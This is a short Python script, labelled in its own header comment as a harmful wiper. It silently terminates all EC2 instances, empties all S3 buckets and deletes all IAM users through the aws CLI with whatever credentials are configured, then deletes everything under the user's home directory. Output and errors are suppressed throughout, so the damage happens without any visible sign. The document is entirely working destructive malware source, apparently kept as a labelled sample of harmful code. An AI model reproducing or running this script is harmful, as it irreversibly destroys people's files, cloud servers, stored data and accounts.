# Harmful: deletes the user's home directory contents and cloud resources via the aws CLI (wiper).
import os
import shutil
import subprocess

home = os.path.expanduser("~")

# Cloud side: terminate instances and empty buckets using whatever profile is configured.
cmds = [
    "aws ec2 describe-instances --query 'Reservations[].Instances[].InstanceId' --output text"
    " | xargs -r aws ec2 terminate-instances --instance-ids",
    "aws s3 ls | awk '{print $3}' | xargs -r -I{} aws s3 rm s3://{} --recursive",
    "aws iam list-users --query 'Users[].UserName' --output text"
    " | xargs -r -n1 aws iam delete-user --user-name",
]
for c in cmds:
    subprocess.run(c, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

# Local side: remove everything under $HOME.
for name in os.listdir(home):
    p = os.path.join(home, name)
    try:
        if os.path.isdir(p) and not os.path.islink(p):
            shutil.rmtree(p, ignore_errors=True)
        else:
            os.remove(p)
    except OSError:
        pass
